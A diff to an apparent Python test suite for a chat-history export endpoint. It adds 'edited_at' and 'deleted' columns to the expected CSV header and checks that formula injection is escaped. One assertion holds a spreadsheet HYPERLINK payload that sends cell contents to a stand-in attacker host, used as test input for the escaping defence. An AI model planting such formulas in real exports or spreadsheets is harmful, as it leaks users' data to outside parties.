@@ -371,7 +371,9 @@ async def test_export_jsonl_and_csv_match_the_history_and_only_readers_download(
     r = tapi.client.get(f"/api/tasks/{csv_task['id']}/result", headers=owner.headers)
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(r.text)))
-    assert rows[0] == ["room", "seq", "id", "ts", "user_id", "user", "body"]
+    assert rows[0] == [
+        "room", "seq", "id", "ts", "user_id", "user", "body", "edited_at", "deleted"
+    ]  # fmt: skip
     assert [row[6] for row in rows[1:]] == [csv_safe(b) for b in bodies]
     assert rows[6][6] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me") #5'
     assert bodies[5].startswith("=HYPERLINK(")  # verbatim in JSONL (checked above)
